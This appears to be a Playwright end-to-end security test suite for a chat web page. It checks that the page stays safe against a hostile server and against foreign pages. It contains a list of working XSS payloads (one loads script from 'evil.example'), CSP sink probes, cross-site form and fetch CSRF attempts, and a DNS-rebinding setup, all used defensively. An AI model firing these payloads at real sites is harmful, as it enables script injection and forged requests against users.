"""The page in Chromium in a hostile world: a server that tells whatever it likes, and pages of others beside it."""

import json
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import aiohttp
import msgspec
import pytest
import pytest_asyncio
from aiohttp import web
from aiohttp.test_utils import TestServer
from playwright.async_api import Browser, Page, async_playwright, expect

from protocol.errors import ContractError, ErrorCode
from protocol.messages import ChatMessage
from tests.client.fake_server import FakeServer, Member, message, ring
from tests.e2e.chromium import EXECUTABLE, is_installed, launch_options
from tests.e2e.conftest import NewPerson, Person, Stack, running
from tests.e2e.script import Script

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

FOREIGN_HOST = "evil.example"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button form=join-form formaction=javascript:alert(1)>go</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>* { display: none }</style>",
    "<template><script>alert(1)</script></template>",
    "<div id=status name=messages>clobbered</div>",
    "</div></div></main><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "</title></textarea></noscript><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}`-alert(1)-`",
    "<img src=x onerror=alert`1`>\u2028\u2029",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<\u0000script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "__proto__",
    "constructor",
]

# As texts: what is between two backticks is code, and those are not shown.
TEXTS = [re.sub("`([^`]+)`", r"\1", payload) for payload in PAYLOADS]

# Only what is meant to be there: neither an element of a payload nor an attribute that runs something.
STRANGERS = """() => [...document.querySelectorAll("*")].filter((node) =>
  ["IFRAME", "OBJECT", "EMBED", "BASE", "VIDEO", "MATH", "STYLE", "TEMPLATE"].includes(node.nodeName) ||
  (node.nodeName === "A" && !(/^https?:/.test(node.getAttribute("href")) &&
    node.getAttribute("href") === node.innerHTML && node.target === "_blank" && node.relList.contains("noopener"))) ||
  (node.nodeName === "DETAILS" && (node.className !== "folded" || node.open)) ||
  (node.nodeName === "SCRIPT" && !/^static\\/(main|start|theme)\\.js$/.test(node.getAttribute("src"))) ||
  (node.nodeName === "LINK" && !node.getAttribute("href").startsWith("static/")) ||
  node.namespaceURI !== "http://www.w3.org/1999/xhtml" ||
  [...node.attributes].some(({ name }) => name.startsWith("on"))).map((node) => node.outerHTML)"""
WATCH = """window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective));"""
CONTENT = "nodes => nodes.map((node) => node.textContent)"
TITLES = "nodes => nodes.map((node) => node.title)"


@dataclass
class Room(FakeServer):
    """A server whose history and members are what a test likes."""

    history: list[ChatMessage] = field(default_factory=list)

    def _perform_as(self, me: Member, method: str, params: dict[str, Any]) -> dict[str, Any]:
        here = {"epoch": self.epoch, "seq": self.seq}
        if method == "GetHistory":
            return {"messages": msgspec.to_builtins(self.history), "oldest": 1, **here}
        if method == "ListMembers":
            named = [{"id": f"id {name}", "name": name, "state": "online", "behind": 0} for name in PAYLOADS]
            return {"members": named, "member_count": len(named), "seq": self.seq}
        return super()._perform_as(me, method, params)

    async def tell(self, messages: list[ChatMessage]) -> None:
        """Ring the one who is in with all of them, which must be taken."""
        calls = [ring(each.seq, "ReceiveMessage", {"message": msgspec.to_builtins(each)}) for each in messages]
        status, _ = await self.post(self.only_member, calls)
        assert status == 200


@pytest_asyncio.fixture(loop_scope="session")
async def room(stack: Stack) -> AsyncIterator[Room]:
    """In the place of the stack's server."""
    fake = Room()
    app = web.Application()
    app.router.add_post("/rpc", fake.handle)
    await stack.stop_server()
    async with TestServer(app, port=int(stack.server_address.rpartition(":")[2])) as http:
        fake.url = f"http://127.0.0.1:{http.port}"
        yield fake
        await stack.stop_client()


async def watched(new_person: NewPerson) -> Person:
    """Make a person whose page notes every breach of its policy."""
    person = await new_person()
    await person.tab.add_init_script(WATCH)
    await person.tab.reload()
    assert await person.tab.evaluate("window.violations") == []
    return person


async def is_unharmed(person: Person) -> None:
    assert await person.tab.evaluate(STRANGERS) == []
    assert await person.tab.evaluate("window.violations") == []
    assert await person.tab.title() == "Lobby – Ringback"
    await expect(person.status).to_have_text("Online")


def said(first: int) -> list[ChatMessage]:
    """Say each payload as a text, under it as a name, with an id and a time to match."""
    return [
        msgspec.structs.replace(
            message(seq, payload, sender=payload), sender_id=f"id {payload}", room=payload, sent_at=payload
        )
        for seq, payload in enumerate(PAYLOADS, first)
    ]


async def test_hostile_texts_and_names_of_the_history_are_shown_as_text(new_person: NewPerson, room: Room) -> None:
    room.history, room.seq = said(1), len(PAYLOADS)
    alice = await (await watched(new_person)).join("Alice")
    await expect(alice.log.locator(".message.other")).to_have_count(len(PAYLOADS))
    assert await alice.log.locator(".other .text").evaluate_all(CONTENT) == TEXTS
    assert await alice.log.locator(".other .who").evaluate_all(CONTENT) == PAYLOADS
    await is_unharmed(alice)


async def test_hostile_names_are_shown_as_text_among_the_people(new_person: NewPerson, room: Room) -> None:
    alice = await (await watched(new_person)).join("Alice")
    people = alice.tab.locator("#people-list .who")
    await expect(people).to_have_count(1 + len(PAYLOADS))
    assert sorted(await people.evaluate_all(CONTENT)) == sorted(["Alice", *PAYLOADS])
    assert sorted(await alice.tab.locator("#people-list .name").evaluate_all(TITLES)) == sorted(["Alice", *PAYLOADS])
    await is_unharmed(alice)


async def test_hostile_texts_and_names_that_come_in_are_shown_as_text(new_person: NewPerson, room: Room) -> None:
    alice = await (await watched(new_person)).join("Alice")
    await room.tell(said(room.seq + 1))
    await expect(alice.log.locator(".message.other")).to_have_count(len(PAYLOADS))
    assert await alice.log.locator(".other .text").evaluate_all(CONTENT) == TEXTS
    assert await alice.log.locator(".other .who").evaluate_all(CONTENT) == PAYLOADS
    await is_unharmed(alice)


async def test_hostile_notices_are_shown_as_text(new_person: NewPerson, room: Room) -> None:
    alice = await (await watched(new_person)).join("Alice")
    events = ["join", "rename", "leave", "<b>unheard of</b>"]
    await room.tell(
        [
            message(seq, payload, sender=payload, event=events[seq % len(events)])
            for seq, payload in enumerate(PAYLOADS, room.seq + 1)
        ]
    )
    await expect(alice.log.locator(".notice")).to_have_count(len(PAYLOADS))
    assert await alice.log.locator(".notice .text").evaluate_all(CONTENT) == PAYLOADS
    await is_unharmed(alice)


async def test_a_hostile_refusal_at_the_door_is_shown_as_text(new_person: NewPerson, room: Room) -> None:
    alice = await watched(new_person)
    for payload in PAYLOADS[:8]:
        room.refuse["Register"] = [ContractError(ErrorCode.INVALID_PARAMS, {"field": payload, "problem": payload})]
        await alice.asks_to_join(payload)
        told = f"The server does not accept the {payload}: {payload}."
        await expect(alice.tab.locator("#join-error")).to_have_text(told)
    assert await alice.tab.evaluate(STRANGERS) == []
    assert await alice.tab.evaluate("window.violations") == []


async def test_a_hostile_refusal_of_a_text_is_shown_as_text(new_person: NewPerson, room: Room) -> None:
    alice = await (await watched(new_person)).join("Alice")
    for payload in PAYLOADS[:8]:
        room.refuse["SendMessage"] = [ContractError(ErrorCode.INVALID_PARAMS, {"field": "text", "problem": payload})]
        await alice.say(payload)
        await expect(alice.log.locator(".trouble").last).to_contain_text(f"does not accept the text: {payload}.")
    assert await alice.refused.evaluate_all(CONTENT) == PAYLOADS[:8]
    await is_unharmed(alice)


async def test_what_one_says_oneself_is_shown_as_text(new_person: NewPerson) -> None:
    alice = await (await watched(new_person)).join("Alice")
    shown = [payload for payload in PAYLOADS if payload.isprintable()][:20]
    for payload in shown:
        await alice.say(payload)
    await expect(alice.own).to_have_count(len(shown))
    assert await alice.own.evaluate_all(CONTENT) == shown
    await is_unharmed(alice)


SINKS = [
    "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')",
    "document.write('<script>alert(1)</script>')",
    "document.body.setAttribute('onclick', 'alert(1)')",
    "document.body.append(Object.assign(document.createElement('script'), { text: 'alert(1)' }))",
    "document.createElement('iframe').srcdoc = '<script>alert(1)</script>'",
    "new DOMParser().parseFromString('<b>', 'text/html')",
    "setTimeout('alert(1)')",
    "new Worker('data:text/javascript,1')",
    "trustedTypes.createPolicy('own', { createHTML: (text) => text })",
]


async def test_where_text_could_become_a_script_the_browser_itself_refuses(chromium: Browser, standing: Stack) -> None:
    """So the tests above can fail, and a flaw in a view would not be one in the page."""
    tab = await (await chromium.new_context()).new_page()
    await tab.add_init_script(WATCH)
    await tab.goto(standing.page_address)
    for number, sink in enumerate(SINKS):
        refused = await tab.evaluate(f"() => {{ try {{ {sink}; return ''; }} catch (error) {{ return error.name; }} }}")
        assert refused in ("TypeError", "SecurityError", "EvalError"), sink
        assert len(await tab.evaluate("window.violations")) > number, sink
    await tab.context.close()


async def test_nothing_from_elsewhere_is_loaded_or_told(chromium: Browser, standing: Stack, foreign: str) -> None:
    tab = await (await chromium.new_context()).new_page()
    await tab.add_init_script(WATCH)
    await tab.goto(standing.page_address)
    elsewhere = foreign.replace(FOREIGN_HOST, "127.0.0.1")
    assert await tab.evaluate(FETCH, elsewhere) == "TypeError"
    assert await tab.evaluate(OPEN_SOCKET, elsewhere.replace("http", "ws")) == "refused"
    assert await tab.evaluate(LOAD, ["img", elsewhere]) == "error"
    assert await tab.evaluate("window.violations") == ["connect-src", "connect-src", "img-src"]
    await tab.context.close()


async def test_cookie_of_the_page_is_one_that_no_script_reads(new_person: NewPerson) -> None:
    alice = await (await new_person()).join("Alice")
    (cookie,) = await alice.tab.context.cookies()
    assert re.fullmatch(r"ringback-[0-9a-f]{12}", cookie["name"])
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Strict", "/")
    assert await alice.tab.evaluate("document.cookie") == ""


# Pages of others.

OPEN_SOCKET = """(url) => new Promise((resolve) => {
  try {
    const socket = new WebSocket(url);
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("refused");
  } catch (error) {
    resolve("refused");
  }
})"""
FETCH = "(url) => fetch(url).then((answer) => answer.text(), (error) => error.name)"
FETCH_BLIND = "(url) => fetch(url, { mode: 'no-cors' }).then((answer) => answer.type, (error) => error.name)"
LOAD = """([tag, url]) => new Promise((resolve) => {
  const node = document.createElement(tag);
  node.onload = () => resolve("load");
  node.onerror = () => resolve("error");
  node[tag === "link" ? "href" : "src"] = url;
  if (tag === "link") node.rel = "stylesheet";
  document.body.append(node);
})"""
SANDBOXED = """([script, url]) => new Promise((resolve) => {
  addEventListener("message", (event) => resolve(event.data));
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts";
  const call = `(${script})(${JSON.stringify(url)}).then((told) => parent.postMessage(told, "*"))`;
  frame.srcdoc = `<script>${call}<` + "/script>";
  document.body.append(frame);
})"""
FORM = """([url, type, body]) => {
  const form = Object.assign(document.createElement("form"), { method: "post", enctype: type, action: url });
  const [name, value] = body.split(/=(.*)/s);
  form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
  document.body.append(form);
  form.submit();
}"""
POST = """([url, type, mode, body]) =>
  fetch(url, { method: "POST", mode, headers: { "Content-Type": type }, body })
    .then((answer) => answer.type, (error) => error.name)"""
BEACON = "([url, body]) => navigator.sendBeacon(url, new Blob([body], { type: 'application/json' }))"


@pytest_asyncio.fixture(loop_scope="session")
async def foreign() -> AsyncIterator[str]:
    """The address of a page that is somebody else's."""

    async def page(_request: web.Request) -> web.Response:
        return web.Response(text="<!doctype html><title>Elsewhere</title><body>", content_type="text/html")

    app = web.Application()
    app.router.add_get("/", page)
    async with TestServer(app) as http:
        yield f"http://{FOREIGN_HOST}:{http.port}/"


@pytest_asyncio.fixture(loop_scope="session", scope="module")
async def standing() -> AsyncIterator[Stack]:
    """A server and a page for the tests that change nothing there."""
    async with running(Stack()) as stack:
        yield stack


@pytest_asyncio.fixture(loop_scope="session", scope="module")
async def misled() -> AsyncIterator[Browser]:
    """A browser whose DNS says that the other's host is this machine, as after a rebinding."""
    if not is_installed():
        pytest.skip(f"no Chromium at {EXECUTABLE}: apt-get install chromium, or say where it is with CHROMIUM")
    options = launch_options()
    options["args"] = [*options["args"], f"--host-resolver-rules=MAP {FOREIGN_HOST} 127.0.0.1"]
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(**options)
        yield browser
        await browser.close()


@pytest_asyncio.fixture(loop_scope="session")
async def tab(misled: Browser, foreign: str) -> AsyncIterator[Page]:
    """A tab that shows the other's page."""
    context = await misled.new_context()
    tab = await context.new_page()
    await tab.goto(foreign)
    yield tab
    await context.close()


def socket_of(page_address: str) -> str:
    return page_address.replace("http:", "ws:") + "/ws"


async def test_a_foreign_page_reads_nothing_of_it(tab: Page, standing: Stack) -> None:
    for path in ("/", "/static/main.js", "/ws"):
        assert await tab.evaluate(FETCH, standing.page_address + path) == "TypeError"
        assert await tab.evaluate(FETCH_BLIND, standing.page_address + path) == "TypeError"


async def test_a_foreign_page_loads_none_of_its_files(tab: Page, standing: Stack) -> None:
    for tag, file in (("script", "rpc.js"), ("img", "icon.svg"), ("link", "page.css")):
        assert await tab.evaluate(LOAD, [tag, f"{standing.page_address}/static/{file}"]) == "error"


async def test_a_foreign_page_does_not_open_its_websocket(tab: Page, standing: Stack) -> None:
    assert await tab.evaluate(OPEN_SOCKET, socket_of(standing.page_address)) == "refused"


async def test_its_own_page_does(misled: Browser, standing: Stack) -> None:
    """So the tests beside this one can fail."""
    context = await misled.new_context()
    tab = await context.new_page()
    await tab.goto(standing.page_address)
    assert await tab.evaluate(OPEN_SOCKET, socket_of(standing.page_address)) == "open"
    assert await tab.evaluate(LOAD, ["img", f"{standing.page_address}/static/icon.svg"]) == "load"
    await context.close()


async def test_a_foreign_page_does_not_frame_it(tab: Page, standing: Stack) -> None:
    asked_for: list[str] = []
    tab.on("request", lambda request: asked_for.append(request.url))
    async with tab.expect_console_message(lambda line: "frame-ancestors 'none'" in line.text):
        await tab.evaluate(LOAD, ["iframe", standing.page_address + "/"])
    assert asked_for == [standing.page_address + "/"]  # and none of what the page would load


async def test_a_foreign_page_keeps_no_hand_on_the_window_that_it_opens(tab: Page, standing: Stack) -> None:
    async with tab.expect_popup() as opened:
        await tab.evaluate("(url) => { window.opened = open(url); }", standing.page_address)
    popup = await opened.value
    await popup.get_by_label("Your name").wait_for()
    assert await popup.evaluate("window.opener") is None
    assert await tab.evaluate("window.opened.closed") is True


async def test_a_sandboxed_page_is_refused(tab: Page, standing: Stack) -> None:
    assert await tab.evaluate(SANDBOXED, [OPEN_SOCKET, socket_of(standing.page_address)]) == "refused"
    assert await tab.evaluate(SANDBOXED, [FETCH, standing.page_address + "/"]) == "TypeError"


async def test_a_host_name_that_was_rebound_is_refused(tab: Page, standing: Stack) -> None:
    rebound = standing.page_address.replace("localhost", FOREIGN_HOST).replace("127.0.0.1", FOREIGN_HOST)
    answer = await tab.goto(rebound)
    assert answer is not None
    assert answer.status == 421
    assert "CHAT_PAGE_HOSTS" in await tab.evaluate(FETCH, rebound + "/static/main.js")
    assert await tab.evaluate(OPEN_SOCKET, socket_of(rebound)) == "refused"
    assert await tab.context.cookies() == []


# A form sends `name=value`, so that what it sends can be JSON if there is a "=" somewhere.
REGISTER = json.dumps({"jsonrpc": "2.0", "id": "=", "method": "Register", "params": {"name": "Mallory"}})


@pytest_asyncio.fixture(loop_scope="session")
async def witness(standing: Stack) -> AsyncIterator[Script]:
    """Somebody at the server who sees who is there."""
    async with aiohttp.ClientSession() as http:
        script = await Script(http, standing.server_address).join("Curl")
        yield script
        await script.leave()  # the next test's witness has the name again


async def people(witness: Script) -> list[str]:
    return [member["name"] for member in (await witness.call("ListMembers"))["members"]]


async def test_a_form_of_a_foreign_page_is_refused_by_the_server(
    tab: Page, foreign: str, standing: Stack, witness: Script
) -> None:
    for form in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
        await tab.goto(foreign)
        async with tab.expect_navigation(url=f"{standing.server_address}/rpc") as sent:
            await tab.evaluate(FORM, [f"{standing.server_address}/rpc", form, REGISTER])
        answer = await sent.value
        assert answer is not None
        assert answer.status == 415
    assert await people(witness) == ["Curl"]


@pytest.mark.parametrize("mode", ["cors", "no-cors"])
async def test_a_call_of_a_foreign_page_reads_and_does_nothing_at_the_server(
    tab: Page, standing: Stack, witness: Script, mode: str
) -> None:
    for content_type in ("application/json", "application/json-rpc", "text/plain"):
        told = await tab.evaluate(POST, [f"{standing.server_address}/rpc", content_type, mode, REGISTER])
        assert told == ("opaque" if mode == "no-cors" else "TypeError")
    assert await people(witness) == ["Curl"]


async def test_a_beacon_of_a_foreign_page_does_nothing_at_the_server(
    tab: Page, standing: Stack, witness: Script
) -> None:
    async with tab.expect_event("requestfailed"):
        await tab.evaluate(BEACON, [f"{standing.server_address}/rpc", REGISTER])
    assert await people(witness) == ["Curl"]


async def test_the_same_call_made_by_a_script_does_something(stack: Stack, script: Script) -> None:
    """So the tests above can fail."""
    await script.join("Curl")
    kind = {"Content-Type": "application/json"}
    async with (
        aiohttp.ClientSession() as http,
        http.post(f"{stack.server_address}/rpc", data=REGISTER, headers=kind) as answer,
    ):
        assert answer.status == 200
    assert await people(script) == ["Curl", "Mallory"]
